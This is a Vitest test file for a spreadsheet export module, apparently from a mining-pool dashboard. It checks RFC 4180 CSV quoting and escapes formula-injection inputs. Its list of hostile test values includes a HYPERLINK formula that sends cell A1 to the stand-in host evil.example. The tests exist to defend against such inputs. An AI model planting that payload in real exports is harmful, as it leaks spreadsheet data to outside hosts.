import { describe, expect, it } from 'vitest';
import { csvField, csvOf, decimalCell, xlsxValue } from './spreadsheet.js';

const hostile = ['-A1-A2', '=HYPERLINK("https://evil.example/?d="&A1,"click")', '@SUM(1)', '+1+1', '\t=1', '\r=1'];

describe('csvField', () => {
  it('quotes a field with a comma, a quote or a line break, doubling its quotes (RFC 4180)', () => {
    expect(csvField('plain')).toBe('plain');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('two\r\nlines')).toBe('"two\r\nlines"');
    expect(csvField('')).toBe('');
    expect(csvField(null)).toBe('');
  });

  it('makes text that would start a formula text, quoted, with a leading single quote', () => {
    expect(hostile.map(csvField)).toEqual([
      `"'-A1-A2"`,
      `"'=HYPERLINK(""https://evil.example/?d=""&A1,""click"")"`,
      `"'@SUM(1)"`,
      `"'+1+1"`,
      `"'\t=1"`,
      `"'\r=1"`,
    ]);
    // The text "-1" is a name, not a figure: it stays text.
    expect(csvField('-1')).toBe(`"'-1"`);
  });

  it('writes figures as numbers, negative ones too', () => {
    expect(csvField(-2.5)).toBe('-2.5');
    expect(csvField(0)).toBe('0');
    expect(csvField(decimalCell('-0.00100000'))).toBe('-0.00100000');
    expect(csvField(decimalCell('12.5'))).toBe('12.5');
    expect(csvField(decimalCell('=1+1'))).toBe(`"'=1+1"`);
  });

  it('joins header and rows with CRLF', () => {
    expect(csvOf(['Worker', 'Hashrate'], [['-A1-A2', -1]])).toBe(`Worker,Hashrate\r\n"'-A1-A2",-1\r\n`);
  });
});

describe('xlsxValue', () => {
  it('makes formula-like text text and keeps figures numbers', () => {
    expect(hostile.map(xlsxValue)).toEqual(hostile.map((text) => `'${text}`));
    expect(xlsxValue('demo_miner')).toBe('demo_miner');
    expect(xlsxValue(-2.5)).toBe(-2.5);
    expect(xlsxValue(decimalCell('-0.00100000'))).toBe(-0.001);
    expect(xlsxValue(null)).toBeNull();
  });
});
